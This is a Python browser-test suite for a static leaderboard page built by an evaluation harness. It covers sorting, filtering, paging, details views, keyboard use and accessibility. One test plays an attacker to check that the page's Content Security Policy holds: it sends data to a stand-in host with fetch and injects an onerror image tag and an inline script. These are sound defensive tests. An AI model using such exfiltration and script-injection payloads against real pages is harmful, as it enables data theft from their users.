"""The built page in a real browser, opened from disk: what a reader does, and what one attacks."""

import json
from dataclasses import replace

import pytest
import typer

from harness.leaderboard.build import PER_FILE, build
from harness.record.state import write_json
from tests.support.boards import add_row, make_board, rules, submission
from tests.support.browser import quiet, wait_for
from tests.support.trials import PADS, trial

MARKED = "product_review/user/mini/rag-s1"


def names(browser):
    return browser.texts("#table tbody td.name a")


def values(browser, column):
    """Numbers of a column as shown, without their intervals."""
    keys = browser.run(
        "return [...document.querySelectorAll('th button')].map(b => b.dataset.sort)"
    )
    cells = browser.run(
        "return [...document.querySelectorAll('#table tbody tr')].map(r => r.cells[arguments[0]]"
        ".firstChild.textContent)", keys.index(column),
    )  # fmt: skip
    return [None if cell == "–" else float(cell) for cell in cells]


def click(browser, selector):
    browser.run("document.querySelector(arguments[0]).click()", selector)


def choose(browser, name, value):
    browser.run(
        "const e = document.getElementById(arguments[0]); e.value = arguments[1];"
        "e.dispatchEvent(new Event('change'))", name, value,
    )  # fmt: skip


def test_it_opens_from_disk_without_requests(browser, page):
    browser.open(page, f"row={MARKED}")
    wait_for(browser, "#inside svg")
    told = browser.find("#summary").text
    assert "Showing 1–50 of 60 rows, sorted by preferences followed" in told
    quiet(browser)


def test_the_page_allows_itself_no_network(browser, page):
    """Even a script that got in could send nothing: the policy is part of the page."""
    browser.open(page)
    sent = browser.driver.execute_async_script(
        "const done = arguments[0]; fetch('https://example.invalid/?stolen')"
        ".then(() => done('sent'), error => done(String(error)));"
    )
    assert "Failed to fetch" in sent
    assert browser.requests() == []
    assert any("Content Security Policy" in line for line in browser.complaints())
    browser.run(
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.bad=1\">')"
    )
    browser.run("const s = document.createElement('script'); s.textContent = 'window.bad=1';"
                "document.body.append(s)")  # fmt: skip
    assert browser.run("return window.bad") is None


def test_sorting_by_score_text_and_back(browser, page):
    browser.open(page)
    for column in ("bleu", "following"):
        click(browser, f"[data-sort={column}]")
        found = values(browser, column)
        ranked = [rank != "–" for rank in browser.texts("#table tbody tr td:first-child")]
        assert ranked == sorted(ranked, reverse=True)  # unchecked rows stand below
        inside = [value for value, has in zip(found, ranked, strict=True) if has]
        assert inside == sorted(inside, reverse=True)
    assert browser.find("[aria-sort]").get_attribute("aria-sort") == "descending"
    click(browser, "[data-sort=following]")
    assert browser.find("[aria-sort]").get_attribute("aria-sort") == "ascending"
    click(browser, "[data-sort=training]")
    assert values(browser, "training") == sorted(values(browser, "training"))
    click(browser, "[data-sort=name]")
    assert names(browser) == sorted(names(browser))
    quiet(browser)


def test_ranks_are_ranges_of_the_column_sorted_by(browser, page):
    browser.open(page)
    ranks = [each for each in browser.texts("#table tbody tr td:first-child") if each != "–"]
    assert any("–" in rank for rank in ranks)
    assert "by preferences followed" in browser.find("#table thead").text
    click(browser, "[data-sort=rougeL]")
    assert "by ROUGE-L" in browser.find("#table thead").text


def test_filters_search_and_an_empty_result(browser, page):
    browser.open(page)
    choose(browser, "status", "unchecked")
    assert len(names(browser)) == 12
    assert set(browser.texts("#table tbody td.status")) == {"unchecked"}
    browser.find("#q").send_keys("COCONUT")
    assert names(browser)
    assert all("coconut" in name for name in names(browser))
    browser.find("#q").send_keys(" nothing of the kind")
    assert names(browser) == []
    assert "Showing no row" in browser.find("#summary").text
    browser.open(page)
    choose(browser, "task", "topic_writing")
    assert "No board has this task" in browser.find("#board").text
    choose(browser, "tier", "smollm2")
    assert len(names(browser)) == 8
    assert "texts may not be published: numbers only" in browser.find("#board").text
    choose(browser, "task", "all")
    choose(browser, "tier", "all")
    told = browser.find("#board").text
    assert "2 boards: scores and ranks are comparable only within a board" in told
    quiet(browser)


def test_columns_can_be_picked(browser, page):
    browser.open(page)
    assert not browser.all("[data-sort=memory]")
    click(browser, "#picker summary")
    click(browser, "#columns input[value=memory]")
    click(browser, "#columns input[value=bleu]")
    assert browser.all("[data-sort=memory]")
    assert not browser.all("[data-sort=bleu]")


def test_a_link_brings_the_state_back(browser, page):
    browser.open(page)
    choose(browser, "status", "verified")
    browser.find("#q").send_keys("group 1")
    click(browser, "[data-sort=meteor]")
    click(browser, "[data-sort=meteor]")
    click(browser, "#columns input[value=seed]")
    address = browser.find("#link").get_attribute("href")
    before = browser.texts("#table tr")
    browser.open(page, address.partition("#")[2])
    assert browser.texts("#table tr") == before
    assert browser.find("#q").get_attribute("value") == "group 1"
    assert browser.find("#status").get_attribute("value") == "verified"


def test_pages(browser, page):
    browser.open(page)
    first = names(browser)
    click(browser, "#next")
    assert "Showing 51–60 of 60 rows" in browser.find("#summary").text
    assert not set(first) & set(names(browser))
    assert not browser.find("#next").is_enabled()
    click(browser, "#previous")
    assert names(browser) == first


def test_details_of_a_row(browser, page):
    browser.open(page, f"row={MARKED}")
    wait_for(browser, "#inside svg")
    text = browser.find("#details").text
    for shown in ("rag 1", "Group 1", "verified", "BLEU", "Made up.", "harness run --method rag"):
        assert shown in text
    assert len(browser.all("#inside .text")) == 3
    assert "position" in browser.find("#inside svg").get_attribute("aria-label")
    browser.open(page, "row=product_review/user/mini/nobody")
    assert "nobody is not on this page" in browser.find("#details").text


def test_rows_of_every_file_open(browser, page):
    """Details lie in files of fifty; a row of the second one shows its own."""
    assert PER_FILE == 50
    for row in ("sft-s8", "flythinker-s59"):
        browser.open(page, f"row=product_review/user/mini/{row}")
        wait_for(browser, "#inside dl")
        number = row.partition("-s")[2]
        assert f"s{number}-0123456789ab, seed {number}" in browser.find("#details").text


def test_a_page_without_its_files_says_so(browser, page, tmp_path):
    alone = tmp_path / "index.html"
    alone.write_bytes(page.read_bytes())
    browser.open(alone, f"row={MARKED}")
    wait_for(browser, "#inside .notice")
    assert "was not found next to this page" in browser.find("#inside .notice").text


def test_the_keyboard_is_enough(browser, page):
    from selenium.webdriver.common.keys import Keys
    from selenium.webdriver.support.ui import WebDriverWait

    browser.open(page)
    browser.press("/")
    assert browser.run("return document.activeElement.id") == "q"
    browser.press(*"sft", Keys.TAB, Keys.TAB, Keys.TAB, Keys.TAB)
    browser.run("document.querySelector('[data-sort=bleu]').focus()")
    browser.press(Keys.ENTER)
    assert browser.run("return document.activeElement.dataset.sort") == "bleu"
    assert "sorted by BLEU" in browser.find("#summary").text
    browser.run("document.querySelector('a[data-row]').focus()")
    browser.press(Keys.ARROW_DOWN)
    second = names(browser)[1]
    assert browser.run("return document.activeElement.textContent") == second
    browser.press(Keys.ENTER)
    wait_for(browser, "#inside dl")
    assert browser.find("#title").text == second
    assert browser.run("return document.activeElement.id") == "close"
    browser.press(Keys.ESCAPE)
    assert not browser.run("return document.getElementById('details').open")
    back = "return document.activeElement.textContent"  # after the close event
    WebDriverWait(browser.driver, 10).until(lambda _: browser.run(back) == second)
    quiet(browser)


@pytest.mark.parametrize(("width", "theme"), [(1280, "light"), (390, "dark")])
def test_nothing_serious_for_axe_and_no_panning(browser, page, theme, width):
    browser.resize(width)
    browser.theme(theme)
    browser.open(page, "q=1")
    assert browser.violations() == []
    assert browser.overflow() <= 0
    browser.open(page, f"q=1&row={MARKED}")
    wait_for(browser, "#inside svg")
    assert browser.violations() == []
    assert browser.overflow() <= 0
    quiet(browser)


def test_a_phone_shows_rank_name_and_score_without_panning(browser, page):
    browser.resize(390, 844)
    browser.open(page)
    heads = browser.run(
        "return [...document.querySelectorAll('th button')].map(b => b.dataset.sort)"
    )
    assert heads == ["rank", "name", "following"]
    region = browser.find("#region")
    assert browser.run("return arguments[0].scrollWidth - arguments[0].clientWidth", region) <= 0


def test_an_example_on_mini_stands_beside_its_reference(browser, boards, tmp_path, capsys):
    from harness.cli.leaderboard import verify

    with pytest.raises(typer.Exit) as ended:
        verify(boards=boards / "mini")
    assert ended.value.exit_code == 0
    capsys.readouterr()
    row = next((boards / "mini").rglob("submission.json")).parent
    out = tmp_path / "page"
    assert build(boards / "mini", out).rows == 1
    browser.open(out / "index.html", f"row=product_review/user/mini/{row.name}")
    wait_for(browser, "#inside .text")
    text = browser.find("#details").get_attribute("textContent")
    lines = (row / "predictions.jsonl").read_text().splitlines()
    texts = {text["id"]: text["output"] for text in map(json.loads, lines)}
    shown = browser.texts("#inside h4 + .text") and [key for key in texts if key in text]
    assert len(shown) == 3
    assert all(texts[key] in text for key in shown)
    assert text.count("reference") >= 3
    assert "asked for" in text


def test_a_metric_that_failed_its_trial_is_marked(browser, tmp_path):
    test = rules()
    place = make_board(tmp_path / "boards", test)
    add_row(place, submission(test, 0))
    failed = replace(PADS, signature="meteor|made up")
    stored = trial(fingerprint=test["fingerprint"], metrics={"meteor": failed})
    write_json(tmp_path / "boards" / "trial" / "one.json", stored)
    build(tmp_path / "boards", tmp_path / "out")
    browser.open(tmp_path / "out" / "index.html")
    heads = browser.texts("th button")
    assert "METEOR ‡" in heads
    assert "BLEU" in heads
    assert "‡ METEOR failed its trial on these data: it prefers" in browser.find("#board").text
    quiet(browser)
